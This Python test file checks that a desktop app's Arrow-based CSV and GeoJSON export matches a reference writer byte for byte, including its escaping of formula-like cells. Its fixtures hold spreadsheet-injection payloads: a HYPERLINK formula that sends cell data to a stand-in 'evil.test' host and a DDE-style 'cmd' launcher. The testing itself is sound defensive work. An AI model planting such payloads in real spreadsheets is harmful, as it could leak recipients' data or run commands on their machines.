"""The Arrow export path against a one-event-at-a-time writer, byte for byte.

The reference below is the exporter as it was before the Arrow path (and as the
formats are specified): each event read on its own with plain SQL, its cells made with
Python's string functions, the CSV written by ``csv.writer`` (QUOTE_MINIMAL, CRLF) and
the GeoJSON Features by ``json.dumps(..., ensure_ascii=False)``. The project holds the
awkward content exports meet: quotes, commas, CR/LF inside cells, CJK and right-to-left
text, formula-looking text (=HYPERLINK, +, -, @, a leading tab or CR), backslashes and
control characters, missing values, events without a place, several actors and several
sources with and without publishers and URLs. Every way the new path reads (in this
process, through the ADBC worker process on SQLite, COPY on PostgreSQL, id ranges and IN
lists, chunks of one or two events, records handed in directly) must give the same bytes.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from sqlalchemy import insert, select, text, update

from desktop_app.export.csv_export import COLUMNS, write_csv
from desktop_app.export.geo import write_geojson
from desktop_app.export.records import end_text, export_events, start_text
from desktop_app.frame import EventFrame
from desktop_app.ingest.pipeline import import_file
from desktop_app.store import export_rows
from desktop_app.store.project import Project
from desktop_app.store.schema import Event, Source, event_source

SHEET_HEADER = [
    "title", "date", "end", "description", "category", "location", "country",
    "lat", "lon", "actors", "tags", "source", "url", "reliability", "credibility", "id",
]  # fmt: skip
SHEET_ROWS = [
    ["Clash, with comma", "2023-05-14 09:30", "", "Line one,\nline \"two\"\r\nthree",
     "Cat, with comma", "Київ", "Ukraine", "50.4501", "30.5234",
     'Actor "A";Actor, B;Third', "alpha;beta", "Reuters;Kyiv Independent",
     "https://x.test/a?b=1,2", "B", "2", "EXT-1"],
    ['北京 "引号" 标题', "2022", "2023", "中文描述", "Policy", "Beijing", "China",
     "39.9042", "116.4074", "中国人民解放军", "", "Ministry", "", "", "", ""],
    ["עברית title", "2024-03", "", "", "", "", "", "", "", "", "", "", "", "", "", ""],
    ["Leap day", "2024-02-29", "2024-03-02", "", "Maritime", "Null Island", "",
     "0", "-0.1278", "Coast Guard", "", "Press report", "https://y.test/p", "A", "1", "X"],
    ["Year only", "1999", "", "desc", "Policy", "Beijing", "China", "39.9042", "116.4074",
     "", "", "", "", "", "", ""],
]  # fmt: skip

# (title as imported, column, awkward value written straight into the store)
AWKWARD = [
    ("Clash, with comma", "title", '=HYPERLINK("http://evil.test/?q="&A1,"click")'),
    ("Year only", "title", "\r=CR, then a formula"),
    ("Year only", "description", '+cmd|" /C calc"!A0 back\\slash \x01 ctl \t tab'),
    ("Leap day", "title", "-2+3 مرحبا بالعالم"),
    ("Leap day", "external_id", "@SUM(A1)"),
    ("Leap day", "description", '\tTabbed start, "quoted"\n\u2028line sep'),
    ("עברית title", "title", "עברית RTL \u200f title"),
    ("עברית title", "category", ""),
]


def _awkward_project(project: Project, tmp_path: Path) -> Project:
    sheet = tmp_path / "awkward.csv"
    with sheet.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(SHEET_HEADER)
        writer.writerows(SHEET_ROWS)
    result = import_file(project, sheet)
    assert (result.imported, result.rejected) == (len(SHEET_ROWS), 0), result
    with project.engine.begin() as conn:
        ids = dict(conn.execute(select(Event.title, Event.id)).all())
        for title, column, value in AWKWARD:
            conn.execute(update(Event).where(Event.id == ids[title]).values({column: value}))
        # sources with and without publisher, URL and date; an event with three
        extra: list[dict[str, Any]] = [
            {"title": "=Wire, \"Agency\"", "publisher": "Agence 北京", "url": "https://z.test/1",
             "date": "2023-05-15"},
            {"title": "Blog", "publisher": None, "url": None, "date": None},
            {"title": "Same URL", "publisher": "", "url": "https://y.test/p", "date": None},
        ]  # fmt: skip
        made = [
            conn.execute(insert(Source).values(s).returning(Source.id)).scalar_one() for s in extra
        ]
        links = [(ids["Clash, with comma"], made[0]), (ids["Clash, with comma"], made[1])]
        links += [(ids["Leap day"], made[2]), (ids["Year only"], made[1])]
        conn.execute(insert(event_source), [{"event_id": e, "source_id": s} for e, s in links])
    return project


# ---------------------------------------------------------------------- the reference
def _events(project: Project, ids: list[int]) -> list[dict[str, Any]]:
    """Each event of ``ids`` (in that order) read on its own with plain SQL."""
    out = []
    with project.engine.connect() as conn:
        for event_id in ids:
            row = conn.execute(
                text(
                    "SELECT e.external_id, e.title, e.start_s, e.precision, e.end_s,"
                    " e.description, e.category, e.tags, e.reliability, e.credibility,"
                    " l.name, l.country, l.latitude, l.longitude, l.geo_precision"
                    " FROM event e LEFT JOIN location l ON l.id = e.location_id"
                    " WHERE e.id = :id"
                ),
                {"id": event_id},
            ).one()
            actors: list[str] = []
            for (name,) in conn.execute(
                text(
                    "SELECT a.name FROM event_actor ea JOIN actor a ON a.id = ea.actor_id"
                    " WHERE ea.event_id = :id ORDER BY ea.role, a.name"
                ),
                {"id": event_id},
            ):
                if name not in actors:
                    actors.append(name)
            sources = conn.execute(
                text(
                    "SELECT s.title, s.publisher, s.url, s.date FROM event_source es"
                    " JOIN source s ON s.id = es.source_id WHERE es.event_id = :id"
                    " ORDER BY s.id"
                ),
                {"id": event_id},
            ).all()
            tags = row.tags if not isinstance(row.tags, str) else json.loads(row.tags)
            out.append(
                {
                    "id": event_id,
                    **row._asdict(),
                    "title": row.title or "",
                    "tags": [str(t) for t in tags or ()],
                    "actors": actors,
                    "sources": [tuple(s) for s in sources],
                }
            )
    return out


def _safe(cell: str | None) -> str:
    cell = cell or ""
    return "'" + cell if cell.startswith(("=", "+", "-", "@", "\t", "\r")) else cell


def _number(value: float | None) -> str:
    return "" if value is None else repr(float(value))


def _precision(code: int) -> str:
    return {1: "year", 2: "month", 3: "day", 4: "minute"}.get(code, "day")


def reference_csv(events: list[dict[str, Any]]) -> bytes:
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(COLUMNS)
    for e in events:
        urls = [u for _, _, u, _ in e["sources"] if u]
        one = urls[0] if len(set(urls)) == 1 and len(urls) == len(e["sources"]) else ""
        publishers = [p or "" for _, p, _, _ in e["sources"]]
        writer.writerow(
            [
                _safe(e["external_id"]),
                _safe(e["title"]),
                start_text(e["start_s"], e["precision"]),
                end_text(e["end_s"]) if e["end_s"] is not None else "",
                _precision(e["precision"]),
                _safe(e["description"]),
                _safe(e["category"]),
                _safe(e["name"]),
                _safe(e["country"]),
                _number(e["latitude"]),
                _number(e["longitude"]),
                _safe(e["geo_precision"]),
                _safe(";".join(e["actors"])),
                _safe(";".join(e["tags"])),
                _safe(";".join(t for t, _, _, _ in e["sources"])),
                _safe(one),
                _safe(";".join(publishers) if any(publishers) else ""),
                _safe(" ".join(urls)),
                e["reliability"] or "",
                "" if e["credibility"] is None else str(e["credibility"]),
                str(e["id"]),
            ]
        )
    return out.getvalue().encode("utf-8")


def reference_geojson(events: list[dict[str, Any]], name: str) -> bytes:
    features = []
    for e in events:
        located = e["latitude"] is not None and e["longitude"] is not None
        feature = {
            "type": "Feature",
            "id": e["id"],
            "geometry": {"type": "Point", "coordinates": [e["longitude"], e["latitude"]]}
            if located
            else None,
            "properties": {
                "id": e["id"],
                "external_id": e["external_id"],
                "title": e["title"],
                "description": e["description"],
                "date": start_text(e["start_s"], e["precision"]),
                "precision": _precision(e["precision"]),
                "end": end_text(e["end_s"]) if e["end_s"] is not None else None,
                "category": e["category"],
                "place": e["name"],
                "country": e["country"],
                "geo_precision": e["geo_precision"],
                "actors": e["actors"],
                "tags": e["tags"],
                "reliability": e["reliability"],
                "credibility": e["credibility"],
                "sources": [
                    {"title": t, "publisher": p, "url": u, "date": d} for t, p, u, d in e["sources"]
                ],
            },
        }
        features.append(json.dumps(feature, ensure_ascii=False))
    head = '{"type": "FeatureCollection", "name": ' + json.dumps(name) + ', "features": [\n'
    return (head + ",\n".join(features) + "\n]}\n").encode("utf-8")


# ---------------------------------------------------------------------- the tests
@pytest.fixture()
def awkward(project: Project, tmp_path: Path) -> Project:
    return _awkward_project(project, tmp_path)


def _ways(project: Project, monkeypatch: pytest.MonkeyPatch) -> list[str]:
    ways = ["in process"]
    if project.engine.dialect.name == "sqlite":
        ways.append("worker process")
    return ways


@pytest.mark.parametrize("chunk", [50_000, 2, 1])
def test_the_arrow_path_writes_the_reference_bytes(
    awkward: Project, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, chunk: int
) -> None:
    ids = EventFrame.load(awkward).ids.tolist()
    events = _events(awkward, ids)
    assert any(e["latitude"] is None for e in events) and any(len(e["sources"]) > 2 for e in events)
    csv_bytes = reference_csv(events)
    geo_bytes = reference_geojson(events, 'Awkward, "北京"')
    assert b"'=HYPERLINK" in csv_bytes and "עברית".encode() in csv_bytes
    for way in _ways(awkward, monkeypatch):
        monkeypatch.setattr(export_rows, "WORKER_FROM", 1 if way == "worker process" else 10**9)
        for dense in (4, 0):  # id ranges, then IN lists
            monkeypatch.setattr(export_rows, "DENSE", dense)
            out = tmp_path / f"{way}-{dense}.csv"
            assert write_csv(out, export_events(awkward, ids, chunk=chunk)) == len(ids)
            assert out.read_bytes() == csv_bytes, (way, dense)
            out = tmp_path / f"{way}-{dense}.geojson"
            assert write_geojson(
                out, export_events(awkward, ids, chunk=chunk), 'Awkward, "北京"'
            ) == (len(ids), sum(e["latitude"] is not None for e in events))
            assert out.read_bytes() == geo_bytes, (way, dense)
    # records handed to the writers directly (no store) give the same bytes
    records = list(export_events(awkward, ids))
    out = tmp_path / "records.csv"
    write_csv(out, records)
    assert out.read_bytes() == csv_bytes
    text_out = io.StringIO()
    write_geojson(text_out, records, 'Awkward, "北京"')
    assert text_out.getvalue().encode() == geo_bytes


def test_any_order_repeats_and_unknown_ids(
    awkward: Project, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    ids = EventFrame.load(awkward).ids
    wanted = [*ids[::-1].tolist(), int(ids[1]), 10**9]  # reversed, a repeat, an unknown id
    expected = reference_csv(_events(awkward, wanted[:-1]))
    for way in _ways(awkward, monkeypatch):
        monkeypatch.setattr(export_rows, "WORKER_FROM", 1 if way == "worker process" else 10**9)
        out = tmp_path / f"{way}.csv"
        assert write_csv(out, export_events(awkward, np.array(wanted), chunk=3)) == len(wanted) - 1
        assert out.read_bytes() == expected, way


def test_a_failed_export_leaves_nothing_behind(awkward: Project, tmp_path: Path) -> None:
    ids = EventFrame.load(awkward).ids.tolist()
    target = tmp_path / "events.csv"
    target.write_bytes(b"an older export\r\n")

    def failing() -> Any:
        yield from list(export_events(awkward, ids))[:2]
        raise OSError("disk full")

    for writer in (write_csv, write_geojson):
        with pytest.raises(OSError, match="disk full"):
            writer(target, failing())
        assert target.read_bytes() == b"an older export\r\n"
        assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []
